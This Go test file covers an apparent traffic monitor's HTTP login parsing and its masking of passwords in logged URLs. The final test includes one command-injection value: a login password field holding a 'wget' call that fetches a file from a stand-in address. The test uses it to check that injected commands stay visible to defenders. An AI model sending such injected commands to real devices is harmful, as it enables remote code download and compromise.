package http

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"edgeward/internal/event"
	"edgeward/internal/wire/proto/prototest/dialogue"
)

func basicAuth(user, pass string) string {
	return "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+pass)) + "\n"
}

func TestLogins(t *testing.T) {
	form := func(body string) string {
		return fmt.Sprintf("POST /login HTTP/1.1\nContent-Type: application/x-www-form-urlencoded\nContent-Length: %d\n\n%s", len(body), body)
	}
	json := `{"method":"login","params":{"userName":"admin","password":"top secret"}}`
	soap := `<s:Envelope><wsse:UsernameToken><wsse:Username>admin</wsse:Username><wsse:Password Type="x#PasswordDigest">aGFzaA==</wsse:Password></wsse:UsernameToken></s:Envelope>`
	const (
		ok     = "HTTP/1.1 200 OK\nContent-Length: 0\n\n"
		no     = "HTTP/1.1 401 Unauthorized\nWWW-Authenticate: Basic realm=\"cam\"\nContent-Length: 0\n\n"
		broken = "HTTP/1.1 500 Oops\nContent-Length: 0\n\n"
	)
	tests := []struct {
		name, request, response string
		want                    string // user, secret length, outcome, mechanism, clear
	}{
		{"basic refused", "GET / HTTP/1.1\n" + basicAuth("admin", "1234") + "\n", no, "admin 4 failure basic true"},
		{"basic accepted", "GET / HTTP/1.1\n" + basicAuth("admin", "1234") + "\n", ok, "admin 4 success basic true"},
		{"basic accepted, page missing", "GET / HTTP/1.1\n" + basicAuth("a", "") + "\n", "HTTP/1.1 404 No\nContent-Length: 0\n\n", "a 0 success basic true"},
		{"basic, server error", "GET / HTTP/1.1\n" + basicAuth("a", "b:c") + "\n", broken, "a 3 unknown basic true"},
		{"basic, no answer", "GET / HTTP/1.1\n" + basicAuth("a", "b") + "\n", "", "a 1 unknown basic true"},
		{"basic, no base64", "GET / HTTP/1.1\nAuthorization: Basic ***\n\n", ok, ""},
		{"no credentials", "GET / HTTP/1.1\n\n", no, ""},
		{"digest", "GET / HTTP/1.1\nAuthorization: Digest realm=\"cam\", username=\"root\", response=\"00\"\n\n", no, "root 0 failure digest false"},
		{"digest, stale nonce", "GET / HTTP/1.1\nAuthorization: Digest username=\"root\"\n\n",
			"HTTP/1.1 401 No\nWWW-Authenticate: Digest nonce=\"x\", stale=TRUE\nContent-Length: 0\n\n", ""},
		{"bearer", "GET / HTTP/1.1\nAuthorization: Bearer abcdef\n\n", ok, " 6 success bearer true"},
		{"proxy", "GET http://h/ HTTP/1.1\nProxy-" + basicAuth("p", "q") + "\n", "HTTP/1.1 407 No\nContent-Length: 0\n\n", "p 1 failure basic true"},
		{"ntlm", "GET / HTTP/1.1\nAuthorization: NTLM " + base64.StdEncoding.EncodeToString(ntlmMessage("bob")) + "\n\n", no, "bob 0 failure ntlm false"},
		{"form", form("username=ad%6din&password=p+w%21&x=y"), ok, "admin 4 success form true"},
		{"form refused", form("user=a&pass=b"), "HTTP/1.1 403 No\nContent-Length: 0\n\n", "a 1 failure form true"},
		{"form, back to the login page", form("user=a&pass=b"), "HTTP/1.1 302 Found\nLocation: /login.html?err=1\nContent-Length: 0\n\n", "a 1 failure form true"},
		{"form, on to the page", form("user=a&pass=b"), "HTTP/1.1 302 Found\nLocation: /index.html\nContent-Length: 0\n\n", "a 1 success form true"},
		{"form, page says no", form("luci_username=root&luci_password=b"), "HTTP/1.1 200 OK\nContent-Length: 24\n\n<p>Invalid user name</p>", "root 1 failure form true"},
		{"form, page says nothing", form("user=a&pass=b"), "HTTP/1.1 200 OK\nContent-Type: text/html\nContent-Length: 19\n\n<html>hello</html>\n", "a 1 unknown form true"},
		{"wi-fi key", form("ssid=home&password=12345678"), ok, ""},
		{"json", fmt.Sprintf("POST /api HTTP/1.1\nContent-Type: application/json\nContent-Length: %d\n\n%s", len(json), json), ok, "admin 10 success form true"},
		{"query", "GET /cgi-bin/check.cgi?loginuse=admin&loginpas=123456 HTTP/1.1\n\n", ok, "admin 6 success form true"},
		{"ws-security", fmt.Sprintf("POST /onvif HTTP/1.1\nContent-Type: application/soap+xml\nContent-Length: %d\n\n%s", len(soap), soap), ok, "admin 0 success wsse false"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			turns := []dialogue.Turn{dialogue.C(crlf(tt.request))}
			if tt.response != "" {
				turns = append(turns, dialogue.S(crlf(tt.response)))
			}
			c := talk(t, turns...)
			got := ""
			for _, l := range dialogue.Facts[event.Login](c) {
				got += fmt.Sprintf("%s %d %s %s %v", l.User, l.Secret.Len, l.Outcome, l.Mechanism, l.Clear)
			}
			if got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

// ntlmMessage makes an AUTHENTICATE message of a user.
func ntlmMessage(user string) []byte {
	m := make([]byte, 64)
	copy(m, "NTLMSSP\x00\x03")
	m[36], m[40], m[60] = byte(2*len(user)), 64, 1
	for _, c := range user {
		m = append(m, byte(c), 0)
	}
	return m
}

func TestAcceptedCredentialsCountOnce(t *testing.T) {
	get := dialogue.C(crlf("GET / HTTP/1.1\n" + basicAuth("a", "b") + "\n"))
	ok := dialogue.S(crlf("HTTP/1.1 200 OK\nContent-Length: 0\n\n"))
	no := dialogue.S(crlf("HTTP/1.1 401 No\nContent-Length: 0\n\n"))
	c := talk(t, get, no, get, no, get, ok, get, ok)
	var got []string
	for _, l := range dialogue.Facts[event.Login](c) {
		got = append(got, l.Outcome)
	}
	if strings.Join(got, " ") != "failure failure success" {
		t.Errorf("got %v", got)
	}
}

func TestSecretsStayOut(t *testing.T) {
	c := talk(t,
		dialogue.C(crlf("GET /snap.cgi?user=admin&pwd=hunter2&ch=1 HTTP/1.1\nReferer: http://u:hunter2@h/?password=hunter2\n\n")),
		dialogue.S(crlf("HTTP/1.1 302 Found\nLocation: /x?pwd=hunter2\nContent-Length: 0\n\n")))
	for _, f := range c.Env.Out.Facts() {
		if s := string(f.Body.AppendEVE(nil)); strings.Contains(s, "hunter2") {
			t.Errorf("a password is in %s", s)
		}
	}
	f := dialogue.Facts[event.HTTP](c)[0]
	if f.URL != "/snap.cgi?user=admin&pwd=*******&ch=1" || f.Referer != "http://u:*******@h/?password=*******" {
		t.Errorf("URL %q, referer %q", f.URL, f.Referer)
	}
	c = talk(t, dialogue.C(crlf("GET /login.cgi?user=x&password=$(wget%20http://198.51.100.1/a) HTTP/1.1\n\n")))
	if f := dialogue.Facts[event.HTTP](c)[0]; !strings.Contains(f.URL, "wget") {
		t.Errorf("an injected command was hidden: %q", f.URL)
	}
}
